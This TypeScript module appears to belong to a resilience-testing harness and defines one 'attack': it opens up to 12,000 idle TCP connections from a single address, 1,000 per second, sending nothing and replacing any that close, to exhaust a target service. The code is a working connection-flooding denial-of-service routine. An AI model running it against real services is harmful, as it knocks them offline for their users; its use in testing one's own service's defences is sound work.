import { connect, type Socket } from 'node:net';
import { setTimeout as wait } from 'node:timers/promises';
import type { Attack } from './attack.ts';

// More than the service accepts.
const CONNECTIONS = 12_000;
const MIN_OPENED = 1_000;
// With the pause, at most 1,000 connections per second. Each takes about 0.07 ms of the service's processor
// time. Ten times as many would need most of a processor, which a busy machine does not have left.
const OPENED_AT_ONCE = 20;
const PAUSE_MS = 20;

export const SILENT_CONNECTIONS: Attack = {
  name: 'silent connections from one address',
  effect:
    'Opens up to 12,000 connections from one address, 1,000 per second, sends nothing on them, and replaces those that are closed.',
  countsIf: `${MIN_OPENED.toLocaleString('en')} connections were opened`,
  // Opening all connections takes at least 12 s.
  durationMs: 20_000,
  isOnConnections: true,
  hasHappened: ({ opened = 0 }) => opened >= MIN_OPENED,
  async send({ url, caller: { localAddress } }, signal) {
    const { hostname, port } = new URL(url);
    const sockets = new Set<Socket>();
    const counts = { opened: 0, closed: 0 };
    while (!signal.aborted) {
      for (let left = OPENED_AT_ONCE; left > 0 && sockets.size < CONNECTIONS; left -= 1) {
        const socket = connect({ host: hostname, port: Number(port), localAddress });
        sockets.add(socket);
        let isOpen = false;
        socket.on('connect', () => {
          isOpen = true;
          counts.opened += 1;
        });
        socket.on('close', () => {
          sockets.delete(socket);
          if (isOpen) counts.closed += 1;
        });
        socket.on('error', () => undefined).resume();
      }
      await wait(PAUSE_MS);
    }
    for (const socket of sockets) socket.destroy();
    return counts;
  },
};
